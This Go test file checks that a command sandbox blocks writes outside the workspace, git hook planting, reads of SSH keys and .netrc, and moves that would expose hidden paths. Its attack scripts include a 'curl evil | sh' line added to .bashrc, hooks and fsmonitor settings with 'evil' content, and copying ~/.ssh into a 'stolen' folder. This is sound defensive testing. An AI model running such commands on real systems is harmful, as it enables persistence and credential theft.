package sandbox

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// writesOut tries every way out of the root the tests know: directly,
// through a link in the root, from Python, and into a start-up file.
const writesOut = `
echo x > "$OUT/direct"
ln -s "$OUT" "$ROOT/link"; echo x > "$ROOT/link/through-link"
python3 -c 'import os; open(os.environ["OUT"] + "/python", "w").write("x")'
echo 'curl evil | sh' >> "$HOME/.bashrc"
true`

func TestWritesOutsideTheRootDoNotAppear(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("no python3 here")
	}
	eachVariant(t, func(t *testing.T, v variant) {
		w := newWorld(t)
		r := run(t, w.plan(WorkspaceWrite), w.env(), writesOut)
		for _, name := range []string{"direct", "through-link", "python"} {
			if exists(filepath.Join(w.outside, name)) {
				t.Errorf("%s was written outside the root: %s", name, r.out)
			}
		}
		if rc := read(t, filepath.Join(w.home, ".bashrc")); rc != "# rc\n" {
			t.Errorf(".bashrc was changed to %q", rc)
		}
		// The same script unconfined writes them all: the test can fail.
		run(t, Plan{Mode: Off, Network: NetworkOpen, Root: w.root}, w.env(), writesOut)
		for _, name := range []string{"direct", "through-link", "python"} {
			if !exists(filepath.Join(w.outside, name)) {
				t.Errorf("unconfined, %s was not written: the script is broken", name)
			}
		}
	})
}

func TestProtectedPathsStayReadOnly(t *testing.T) {
	eachVariant(t, func(t *testing.T, v variant) {
		w := newWorld(t)
		r := run(t, w.plan(WorkspaceWrite), w.env(), `
echo evil > "$ROOT/.git/hooks/pre-commit"
echo '[core] fsmonitor = evil' >> "$ROOT/.git/config"
echo ok > "$ROOT/made"; echo ok > "$TMPDIR/made"; echo ok > "$CACHE/made"
true`)
		// Landlock alone cannot take a path out of the granted root: the
		// policy guards it there, and Probe says so.
		if v.force != "none" && exists(filepath.Join(w.root, ".git", "hooks", "pre-commit")) {
			t.Errorf(".git/hooks/pre-commit was made: %s", r.out)
		}
		if c := read(t, filepath.Join(w.root, ".git", "config")); v.force != "none" && c != "[core]\n" {
			t.Errorf(".git/config was changed to %q", c)
		}
		for _, dir := range []string{w.root, w.tmp, w.cache} {
			if !exists(filepath.Join(dir, "made")) {
				t.Errorf("%s could not be written: %s", dir, r.out)
			}
		}
	})
}

// With a mount namespace, .git cannot be moved aside and replaced by a
// copy whose hooks are writable. (Landlock alone cannot stop that: the
// policy guards there, and Probe says so.)
func TestProtectedPathsCannotBeMovedAside(t *testing.T) {
	eachVariant(t, func(t *testing.T, v variant) {
		if v.force == "none" {
			t.Skip("Landlock alone cannot pin a folder")
		}
		w := newWorld(t)
		r := run(t, w.plan(WorkspaceWrite), w.env(), `
cd "$ROOT"; mv .git .git-aside; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit
rm -rf .git/hooks; mkdir .git/hooks; echo evil > .git/hooks/pre-commit
true`)
		if exists(filepath.Join(w.root, ".git-aside")) || exists(filepath.Join(w.root, ".git", "hooks", "pre-commit")) {
			t.Errorf(".git was moved aside or its hooks replaced: %s", r.out)
		}
	})
}

func TestAMissingHooksFolderIsMadeAndProtected(t *testing.T) {
	eachVariant(t, func(t *testing.T, v variant) {
		if v.force == "none" {
			t.Skip("Landlock alone cannot protect a path inside the root")
		}
		w := newWorld(t)
		os.Remove(filepath.Join(w.root, ".git", "hooks"))
		r := run(t, w.plan(WorkspaceWrite), w.env(), `echo evil > "$ROOT/.git/hooks/post-checkout"; true`)
		if exists(filepath.Join(w.root, ".git", "hooks", "post-checkout")) {
			t.Errorf("a hook was planted in a missing hooks folder: %s", r.out)
		}
	})
}

// TestTheStartingFolderIsConfinedToo: a command that starts in a folder
// the sandbox protects or hides sees it as the sandbox does, not as it
// was before the mounts.
func TestTheStartingFolderIsConfinedToo(t *testing.T) {
	eachVariant(t, func(t *testing.T, v variant) {
		w := newWorld(t)
		p := w.plan(WorkspaceWrite)
		hooks := filepath.Join(w.root, ".git", "hooks")
		// PWD naming the folder by a magic link must not lead back to
		// it either.
		for _, pwd := range [][]string{nil, {"PWD=/proc/self/cwd"}} {
			r := runArgvIn(t, p, w.env(pwd...), hooks, "/bin/sh", "-c", "echo evil > pre-commit; true")
			if v.force != "none" && exists(filepath.Join(hooks, "pre-commit")) {
				t.Errorf("%v: a hook was written from within .git/hooks: %s", pwd, r.out)
			}
			r = runArgvIn(t, p, w.env(pwd...), filepath.Join(w.home, ".ssh"), "/bin/sh", "-c", "cat id_rsa")
			if strings.Contains(r.out, "SECRET") {
				t.Errorf("%v: a secret was read from within ~/.ssh: %s", pwd, r.out)
			}
		}
	})
}

// A command started in its temporary folder, where the plan caps its
// size, works in the folder of its own (the tmpfs over it), not in the
// one beneath.
func TestACommandStartedInItsCappedTemporaryFolderWritesThere(t *testing.T) {
	eachVariant(t, func(t *testing.T, v variant) {
		if v.force == "none" {
			t.Skip("without a mount namespace the temporary folder has no cap")
		}
		w := newWorld(t)
		p := w.plan(WorkspaceWrite)
		p.TempBytes = 8 << 20
		r := runArgvIn(t, p, w.env(), w.tmp, "/bin/sh", "-c", "echo mine > made && cat made")
		if r.code != 0 || r.out != "mine\n" {
			t.Errorf("exit %d: %q", r.code, r.out)
		}
		if exists(filepath.Join(w.tmp, "made")) {
			t.Error("the file went to the folder beneath the command's own")
		}
	})
}

func TestSecretsReadAsNothing(t *testing.T) {
	eachVariant(t, func(t *testing.T, v variant) {
		w := newWorld(t)
		r := run(t, w.plan(WorkspaceWrite), w.env(), `
cat "$HOME/.ssh/id_rsa"; cat "$HOME/.netrc"; grep -r SECRET "$HOME"; cp -r "$HOME/.ssh" "$ROOT/stolen"
echo listing:; ls -A "$HOME/.ssh"; echo end; cat "$ROOT/README"`)
		if strings.Contains(r.out, "SECRET") || exists(filepath.Join(w.root, "stolen", "id_rsa")) {
			t.Fatalf("a secret was read: %s", r.out)
		}
		if !strings.Contains(r.out, "hello") {
			t.Errorf("an ordinary file was not readable: %s", r.out)
		}
		if v.force != "none" && !strings.Contains(r.out, "listing:\nend") {
			t.Errorf("with a mount namespace, ~/.ssh should be empty: %s", r.out)
		}
		if got := run(t, Plan{Mode: Off, Network: NetworkOpen, Root: w.root}, w.env(), `cat "$HOME/.ssh/id_rsa"`); !strings.Contains(got.out, "SECRET") {
			t.Fatalf("unconfined, the key should read: %s", got.out)
		}
	})
}

func TestReadOnlyWritesOnlyTheTemporaryFolder(t *testing.T) {
	eachVariant(t, func(t *testing.T, v variant) {
		w := newWorld(t)
		r := run(t, w.plan(ReadOnly), w.env(), `
echo x > "$ROOT/made"; echo x > "$CACHE/made"; echo x > "$OUT/made"; echo x >> "$ROOT/README"
echo x > "$TMPDIR/made"; cat "$ROOT/README"`)
		for _, dir := range []string{w.root, w.cache, w.outside} {
			if exists(filepath.Join(dir, "made")) {
				t.Errorf("read-only mode wrote in %s", dir)
			}
		}
		if read(t, filepath.Join(w.root, "README")) != "hello\n" {
			t.Error("read-only mode changed a file in the root")
		}
		if !exists(filepath.Join(w.tmp, "made")) || !strings.Contains(r.out, "hello") {
			t.Errorf("read-only mode must read the root and write TMPDIR: %s", r.out)
		}
	})
}

func TestAPlanThatCannotBeAppliedRunsNothing(t *testing.T) {
	eachVariant(t, func(t *testing.T, v variant) {
		heldMayFail = true // no holder can apply these either
		w := newWorld(t)
		for name, p := range map[string]Plan{
			"missing temporary folder": func() Plan { p := w.plan(WorkspaceWrite); p.TempDir = filepath.Join(w.tmp, "gone"); return p }(),
			"missing root":             func() Plan { p := w.plan(WorkspaceWrite); p.Root = filepath.Join(w.outside, "gone"); return p }(),
			"secret holds the root":    func() Plan { p := w.plan(WorkspaceWrite); p.Hide = append(p.Hide, w.home); return p }(),
		} {
			if v.force == "none" && name == "secret holds the root" {
				continue // without mounts there is nothing to refuse: the root stays granted
			}
			r := run(t, p, w.env(), `touch "$OUT/ran"`)
			if exists(filepath.Join(w.outside, "ran")) || r.code != 126 {
				t.Errorf("%s: the command ran (exit %d): %s", name, r.code, r.out)
			}
			if lines := strings.Split(strings.TrimSpace(r.out), "\n"); len(lines) != 1 || !strings.Contains(lines[0], "did not run") {
				t.Errorf("%s: want one line saying why, got %q", name, r.out)
			}
		}
	})
}

// A secret place the config names inside the root cannot be moved aside
// (its folder renamed) to be read by the next command.
func TestASecretInsideTheRootCannotBeMovedAside(t *testing.T) {
	eachVariant(t, func(t *testing.T, v variant) {
		if v.force == "none" {
			t.Skip("Landlock alone cannot hide a path inside the root: the policy guards it, and Probe says so")
		}
		w := newWorld(t)
		mkdir(t, filepath.Join(w.root, "config"))
		write(t, filepath.Join(w.root, "config", "prod.env"), "TOKEN=SECRET-PROD\n")
		p := w.plan(WorkspaceWrite)
		p.Hide = append(p.Hide, filepath.Join(w.root, "config", "prod.env"))
		r := run(t, p, w.env(), `cd "$ROOT"; cat config/prod.env; mv config moved; cat moved/prod.env; true`)
		r2 := run(t, p, w.env(), `cat "$ROOT"/moved/prod.env "$ROOT"/config/prod.env; true`)
		if strings.Contains(r.out+r2.out, "SECRET") {
			t.Fatalf("the hidden file was read: %s %s", r.out, r2.out)
		}
	})
}

// husky and others move the hooks into the project: the hooks path the
// repository names is protected like .git/hooks.
func TestTheConfiguredHooksFolderStaysReadOnly(t *testing.T) {
	eachVariant(t, func(t *testing.T, v variant) {
		if v.force == "none" {
			t.Skip("Landlock alone cannot protect a path inside the root")
		}
		w := newWorld(t)
		write(t, filepath.Join(w.root, ".git", "config"), "[core]\n\thooksPath = .husky\n")
		mkdir(t, filepath.Join(w.root, ".husky"))
		r := run(t, w.plan(WorkspaceWrite), w.env(), `echo evil > "$ROOT/.husky/pre-commit"; true`)
		if exists(filepath.Join(w.root, ".husky", "pre-commit")) {
			t.Errorf("a hook was planted in the configured hooks folder: %s", r.out)
		}
	})
}

// A trampoline told it has a mount namespace of its own that it does not
// have (as when run by hand) must not mount in the helper's. The test's
// "helper" is a stand-in in a throwaway namespace (the action
// "trampoline"), so that a failure harms nothing.
func TestTheTrampolineNeverMountsInTheHelpersNamespace(t *testing.T) {
	if measured().nsFlags == 0 {
		t.Skip("no mount namespace here to hold the test: " + measured().noNS)
	}
	w := newWorld(t)
	plan, err := json.Marshal(wire{Plan: w.plan(WorkspaceWrite), Namespaces: true})
	if err != nil {
		t.Fatal(err)
	}
	self, _ := os.Executable()
	cmd := exec.Command(self)
	cmd.Env = w.env(actionVar + "=trampoline:" + string(plan))
	cmd.SysProcAttr = &syscall.SysProcAttr{}
	applyNamespaces(cmd.SysProcAttr, measured().nsFlags)
	out, _ := cmd.CombinedOutput()
	if cmd.ProcessState.ExitCode() != 126 || exists(filepath.Join(w.outside, "ran")) || !strings.Contains(string(out), "mount namespace of its own") {
		t.Fatalf("exit %d: %s", cmd.ProcessState.ExitCode(), out)
	}
}

// The rm shim moves files from the root to the trash folder, and tools
// move files between folders: a rename across writable places works.
func TestFilesMoveBetweenWritablePlaces(t *testing.T) {
	eachVariant(t, func(t *testing.T, v variant) {
		w := newWorld(t)
		trash := filepath.Join(w.home, ".cache", "termhelper", "trash")
		mkdir(t, trash)
		p := w.plan(WorkspaceWrite)
		p.Writable = append(p.Writable, trash)
		r := run(t, p, w.env("TRASH="+trash), `cd "$ROOT"; mkdir -p a b; echo x > a/f; mv a/f b/f && mv b/f "$TRASH/f" && mv "$TRASH/f" "$TMPDIR/f" && echo moved`)
		if !strings.Contains(r.out, "moved") || !exists(filepath.Join(w.tmp, "f")) {
			t.Fatalf("a move between writable places failed: %s", r.out)
		}
	})
}
